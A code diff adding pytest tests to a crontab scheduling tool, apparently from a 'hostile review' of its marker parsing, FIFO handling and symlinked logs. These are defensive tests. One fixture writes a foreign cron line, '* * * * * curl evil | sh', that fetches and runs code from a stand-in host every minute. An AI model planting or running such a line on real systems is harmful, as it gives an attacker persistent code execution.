@@ -485,3 +485,51 @@ def test_install_makes_no_folder_outside_the_store_unless_told(lab, capsys, tmp_
     other = tmp_path / "no" / "crontab"
     code, _, err = schedule(capsys, "remove", "--all", "--crontab-file", str(other))
     assert code == 2 and "--crontab-file" in err and not (tmp_path / "no").exists()
+
+
+# -- hostile review, round three (benchmarks/RESULTS.md) -------------------------------------------
+@pytest.mark.parametrize(
+    "shape",
+    ["BEGIN BEGIN good END foreign END", "good END foreign END", "BEGIN good BEGIN foreign END"],
+)
+def test_nested_or_unbalanced_markers_are_refused_never_half_removed(lab, capsys, shape):
+    """BEGIN BEGIN <line> END <curl|sh> END: the parser closed the block at the first END, so `remove
+    --all` kept the foreign line that sat between labprobe's markers (and a stray END), exit 0."""
+    tab, _, _ = installed(capsys, lab)
+    good = block(tab)[0]
+    words = {"BEGIN": sched.BEGIN, "END": sched.END, "good": good, "foreign": "* * * * * curl evil | sh"}
+    text = UNRELATED + "".join(words[w] + "\n" for w in shape.split())
+    tab.write_text(text)
+    for argv in (["remove", "--all"], ["show"]):
+        code, _, err = schedule(capsys, *argv, "--crontab-file", str(tab))
+        assert code == 2 and "mend it by hand" in err and tab.read_text() == text, (argv, err)
+
+
+def test_run_never_waits_on_a_fifo_where_its_log_goes(lab, capsys):
+    """A FIFO planted at the entry's log after install: `schedule run` opened it for writing and
+    waited for a reader for ever (the night's sweep never started, nor any later one)."""
+    tab, _, path = installed(capsys, lab)
+    log = Path(json.loads(path.read_text())["log"])
+    log.parent.mkdir(parents=True, exist_ok=True)
+    log.unlink(missing_ok=True)
+    os.mkfifo(log)
+    code = subprocess.run(
+        [sys.executable, "-m", "runner.cli", "schedule", "run", path.stem],
+        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[3])},
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert code.returncode == 2 and "not a regular file" in code.stderr, code.stderr
+
+
+def test_install_refuses_a_log_that_run_would_refuse(lab, capsys, tmp_path):
+    """--log a symlink: install and show said all was well, and every night `run` refused it."""
+    cluster, tab = lab
+    real = tmp_path / "real.log"
+    real.write_text("")
+    os.symlink(real, tmp_path / "link.log")
+    code, _, err = install(
+        capsys, cluster, tab, "--plan", "night", "--cron", "@daily", "--log", str(tmp_path / "link.log")
+    )
+    assert code == 2 and "a symbolic link" in err and tab.read_text() == UNRELATED, err
